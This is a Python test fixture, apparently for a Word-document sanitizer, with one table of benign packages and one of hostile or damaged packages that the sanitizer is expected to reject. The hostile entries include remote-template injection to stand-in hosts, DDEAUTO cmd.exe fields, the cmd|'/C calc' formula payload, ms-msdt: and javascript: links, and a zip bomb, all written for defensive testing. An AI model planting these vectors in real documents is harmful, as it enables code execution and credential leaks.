"""Packages of Word as tables: honest ones, and hostile or damaged ones with their refusal."""

from tests.berkas_uji import (
    buku,
    hubungan_luar,
    sisipkan,
)

RELS = "word/_rels/settings.xml.rels"


def bagian(nama, isi=b"x"):
    return lambda asal: sisipkan(asal, **{nama: isi})


def _bidang(xml):
    def ubah(asal):
        return sisipkan(asal, ganti={b"<w:body>": b"<w:body><w:p>" + xml + b"</w:p>"})

    return ubah


def _jenis(*pasangan):
    """The package with types for parts: (name, type), and the parts themselves."""

    def ubah(asal):
        tambahan = "".join(
            f'<Override PartName="/{nama}" ContentType="{jenis}"/>' for nama, jenis in pasangan
        )
        ganti = {b"</Types>": tambahan.encode() + b"</Types>"}
        return sisipkan(asal, ganti=ganti, **{nama: b"<a/>" for nama, _ in pasangan})

    return ubah


def _rels(jenis, sasaran, lain=""):
    """A relationship inside the package, unless `lain` says otherwise."""
    awal = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return (
        f'<Relationships><Relationship {lain} Id="r1" Type="{awal}{jenis}" '
        f'Target="{sasaran}"/></Relationships>'
    )


def _kode(*potong):
    """Field codes, each between its marks."""
    awal, akhir = (f'<w:r><w:fldChar w:fldCharType="{jenis}"/></w:r>' for jenis in ("begin", "end"))
    isi = "".join(f"{awal}<w:r><w:instrText>{satu}</w:instrText></w:r>{akhir}" for satu in potong)
    return _bidang(isi.encode())


GAMBAR_VML = b'<xml><v:imagedata xmlns:v="urn:v" src="%s"/><br></xml>'
RUMUS = "<worksheet><sheetData><c><f>{}</f></c></sheetData></worksheet>"
WORD_BAIK = {
    "biasa": lambda asal: asal,
    **{
        f"tautan {sasaran}": bagian(RELS, hubungan_luar("hyperlink", sasaran))
        for sasaran in (
            "mailto:camat@jatiroto.example.id",
            "file:///C:\\Users\\Siti\\lampiran.docx",
            "\\\\192.168.1.10\\bersama\\anggaran.xlsx",
            "lampiran%202025.docx",
            "#bab-2",
            "www.lumajangkab.go.id",
        )
    },
    "dasar_kosong": bagian("docProps/a.xml", "<a><HyperlinkBase></HyperlinkBase></a>"),
    "gambar_setempat": bagian(RELS, hubungan_luar("image", "file:///C:\\foto\\rapat.jpg")),
    "buku_terhubung": bagian(RELS, hubungan_luar("externalLinkPath", "anggaran%202025.xlsx")),
    "google": _jenis(("word/metadata", "application/binary")),
    "wps": _jenis(("word/a.xml", "application/vnd.wps-officedocument.cellimage+xml")),
    "catatan_excel": bagian("word/a.vml", GAMBAR_VML % b""),
    "daftar_isi": _kode("TOC \\o &quot;1-3&quot; \\h", "PAGEREF _Toc1 \\h"),
    "tautan_bidang": _kode("HYPERLINK &quot;https://jatiroto.example.id/?a=DDE&quot;"),
    "gambar_di_dalam": _kode("INCLUDEPICTURE rapat.jpg"),
    "rumus": bagian("xl/worksheets/s.xml", RUMUS.format("SUM(A1:B2)&amp;&quot;a|b IMAGE(&quot;")),
    "hubungan_di_dalam": bagian(RELS, _rels("image", "media/image1.png")),
    "templat_setempat": bagian(
        RELS, hubungan_luar("attachedTemplate", "file:///C:\\Users\\Siti\\Kop%20Surat.dotm")
    ),
    "templat_tanpa_jalan": bagian(RELS, hubungan_luar("attachedTemplate", "Normal.dotm")),
    "tautan": bagian(RELS, hubungan_luar("hyperlink", "https://jatiroto.example.id/")),
    "diagram": lambda asal: sisipkan(asal, **{"word/embeddings/Lembar1.xlsx": buku()}),
    "setelan_pencetak": bagian("word/printerSettings1.bin"),
    "folder": bagian("word/media/", b""),
    "nomor_halaman": _bidang(b"<w:r><w:instrText> PAGE </w:instrText></w:r>"),
}


WORD_JAHAT = {
    "makro": (bagian("word/vbaProject.bin"), "memuat makro"),
    "makro_menurut_jenisnya": (
        _jenis(("word/a.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
        "memuat makro",
    ),
    "makro_bernama_lain": (
        _jenis(("word/printerSettings1.bin", "application/vnd.ms-office.vbaProject")),
        "memuat makro",
    ),
    "makro_menurut_hubungannya": (bagian(RELS, _rels("vbaProject", "a.dat")), "memuat makro"),
    "pita_bermakro": (bagian(RELS, _rels("ui/extensibility", "a.xml")), "memuat makro"),
    "ole_bernama_lain": (bagian(RELS, _rels("oleObject", "a.dat")), "objek tertanam"),
    "activex_bernama_lain": (
        _jenis(("word/a.xml", "application/vnd.ms-office.activeX+xml")),
        "objek tertanam",
    ),
    "jenis_tidak_dikenal": (_jenis(("word/a.xml", "application/x-msdownload")), "objek tertanam"),
    "xml_bernama_gambar": (
        _jenis(
            (
                "word/media/a.png",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
            )
        ),
        "rusak",
    ),
    "rels_huruf_besar": (
        bagian(
            "word/_rels/settings.xml.RELS",
            hubungan_luar("attachedTemplate", "https://jahat.example/t.dotm"),
        ),
        "dari luar",
    ),
    "rels_beda_huruf_saja": (
        lambda asal: sisipkan(asal, **{"WORD/document.xml": b"<a/>"}),
        "rusak",
    ),
    "kurung_di_atribut": (
        bagian(
            RELS,
            _rels(
                "attachedTemplate",
                "https://jahat.example/t.dotm",
                'a="&gt;>" TargetMode="External"',
            ),
        ),
        "dari luar",
    ),
    "berawalan": (
        bagian(
            RELS,
            '<r:Relationships xmlns:r="urn:r"><r:Relationship Id="a" Type="x/image" '
            'TargetMode="External" r:TargetMode="Internal" Target="&#104;ttp://x/a.png"/>'
            "</r:Relationships>",
        ),
        "dari luar",
    ),
    "tujuan_jauh_tanpa_tanda": (bagian(RELS, _rels("image", "http://x/a.png")), "dari luar"),
    "tanda_ditulis_lain": (
        bagian(RELS, _rels("image", "//x/a.png", 'TargetMode=" external"')),
        "dari luar",
    ),
    **{
        f"gambar {sasaran}": (bagian(RELS, hubungan_luar("image", sasaran)), r"dari luar \(image")
        for sasaran in (
            "https://jahat.example/a.png",
            "\\\\203.0.113.5\\a.png",
            "//203.0.113.5/a.png",
            "file://203.0.113.5/a.png",
            "file:////203.0.113.5/a.png",
            "file:///%5C%5C203.0.113.5%5Ca.png",
            "%255C%255C203.0.113.5%255Ca.png",
            "mhtml:http://x/a",
        )
    },
    **{
        f"{jenis} {letak}": (bagian(RELS, isi), f"dari luar .{jenis}")
        for jenis in ("aFChunk", "subDocument", "frame", "transform")
        for letak, isi in (
            ("di dalam", _rels(jenis, "a.xml")),
            ("di luar", hubungan_luar(jenis, "https://jahat.example/a")),
        )
    },
    "jenis_luar_tidak_dikenal": (
        bagian(RELS, hubungan_luar("video", "https://jahat.example/a.mp4")),
        "dari luar .video",
    ),
    "buku_terhubung_jauh": (
        bagian(RELS, hubungan_luar("externalLinkPath", "https://jahat.example/a.xlsx")),
        "dari luar .externalLinkPath",
    ),
    "dasar_jauh": (
        bagian("docProps/a.xml", "<a><HyperlinkBase>https://x/</HyperlinkBase></a>"),
        "dari luar .HyperlinkBase",
    ),
    "dasar_hubungan": (
        bagian(RELS, '<Relationships xml:base="https://x/"></Relationships>'),
        "dari luar .xml:base",
    ),
    "altchunk": (_bidang(b'<w:altChunk w:id="a"/>'), "dari luar .altChunk"),
    **{
        f"tautan {sasaran}": (bagian(RELS, hubungan_luar("hyperlink", sasaran)), "memuat tautan")
        for sasaran in (
            "javascript:alert(1)",
            "java\tscript:a",
            "ms-msdt:/id",
            "search-ms:q",
            "vbscript:a",
        )
    },
    **{
        kode: (_kode(kode), f"dari luar .{kode.partition('&')[0].split()[0]}")
        for kode in (
            "INCLUDETEXT a.docx",
            "INCLUDETEXT&quot;https://jahat.example/a.docx&quot;",
            "INCLUDEPICTURE //203.0.113.5/a.png \\d",
            "LINK Excel.Sheet.12 a.xlsx",
            "INCLUDEPICTURE &quot;https://jahat.example/a.png&quot; \\d",
            "DATABASE \\d a.mdb",
        )
    },
    "bidang_bersarang": (
        _bidang(
            b'<w:fldChar w:fldCharType="begin"/><w:instrText>LI</w:instrText>'
            b'<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE a</w:instrText>'
            b'<w:fldChar w:fldCharType="end"/><w:instrText>NK a.xlsx</w:instrText>'
            b'<w:fldChar w:fldCharType="end"/>'
        ),
        "dari luar .LINK",
    ),
    "gambar_vml_jauh": (bagian("word/a.vml", GAMBAR_VML % b"https://x/a.png"), "dari luar"),
    **{
        f"rumus {rumus}": (bagian("xl/worksheets/s.xml", RUMUS.format(rumus)), "dari luar")
        for rumus in (
            "_xlfn.WEBSERVICE(&quot;http://x&quot;)",
            "_xlfn.IMAGE(A1)",
            "_xlfn.MAP(A1,_xleta.WEBSERVICE)",
            "1+cmd|'/C calc'!A0",
            "RTD(&quot;a&quot;,,1)",
        )
    },
    "nama_berumus": (
        bagian("xl/a.xml", "<x><definedName>cmd|'/C calc'!A0</definedName></x>"),
        "dari luar .DDE",
    ),
    "kueri_web": (bagian("xl/connections.xml", "<connections><webPr/></connections>"), "dari luar"),
    "sambungan_sendiri": (
        bagian("xl/connections.xml", '<c><connection refreshOnLoad="1"/></c>'),
        "dari luar",
    ),
    "sandi_huruf_lain": (
        bagian("word/a.xml", '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")),
        "rusak",
    ),
    "xml_rusak": (bagian("word/a.xml", b"<a><b></a>"), "rusak"),
    "awalan_tanpa_arti": (bagian("word/a.xml", b"<x:a/>"), "rusak"),
    "lembar_makro": (bagian("xl/macrosheets/sheet1.xml"), "memuat makro"),
    "objek_ole": (bagian("word/embeddings/oleObject1.bin"), "objek tertanam"),
    "activex": (bagian("word/activeX/activeX1.xml"), "objek tertanam"),
    "program": (bagian("word/media/gambar.exe"), "objek tertanam"),
    "makro_di_dalam": (
        lambda asal: sisipkan(
            asal, **{"word/embeddings/a.xlsx": sisipkan(buku(), **{"xl/vbaProject.bin": b"x"})}
        ),
        "memuat makro",
    ),
    "paket_berlapis": (
        lambda asal: sisipkan(
            asal, **{"word/embeddings/a.docx": sisipkan(asal, **{"word/embeddings/b.xlsx": buku()})}
        ),
        "objek tertanam",
    ),
    "paket_palsu": (bagian("word/embeddings/a.xlsx", b"MZ"), "rusak"),
    "templat_jauh": (
        bagian(RELS, hubungan_luar("attachedTemplate", "https://jahat.example/t.dotm")),
        "dari luar",
    ),
    "templat_di_jaringan": (
        bagian(RELS, hubungan_luar("attachedTemplate", "\\\\203.0.113.5\\t.dotm")),
        "dari luar",
    ),
    "ole_jauh": (bagian(RELS, hubungan_luar("oleObject", "mhtml:http://x/a.html!b")), "dari luar"),
    "dde": (_bidang(b"<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>"), "dari luar"),
    "dde_terpotong": (
        _bidang(b"<w:r><w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText></w:r>"),
        "dari luar",
    ),
    "dde_sederhana": (_bidang(b'<w:fldSimple w:instr="&#68;DE cmd"/>'), "dari luar"),
    "dde_excel": (bagian("xl/externalLinks/1.xml", b"<ddeLink/>"), "dari luar"),
    "entitas": (bagian("word/a.xml", b"<!DOCTYPE a>"), "DOCTYPE"),
    "utf16": (bagian("word/a.xml", "<a/>".encode("utf-16")), "rusak"),
    "bom": (bagian("word/media/a.png", bytes(110 * 1024 * 1024)), "menggembung"),
    "banyak": (
        lambda asal: sisipkan(asal, **{f"word/media/{n}.png": b"" for n in range(5001)}),
        "lebih dari 5000 bagian",
    ),
    "terpotong": (lambda asal: asal[: len(asal) // 2], "rusak"),
    "berubah": (
        lambda asal: asal.replace(asal[200:210], bytes(10), 1),
        "rusak",
    ),
    "bukan_word": (
        lambda asal: sisipkan(asal, ganti={b"document.main+xml": b"template.main+xml"}),
        "rusak",
    ),
}
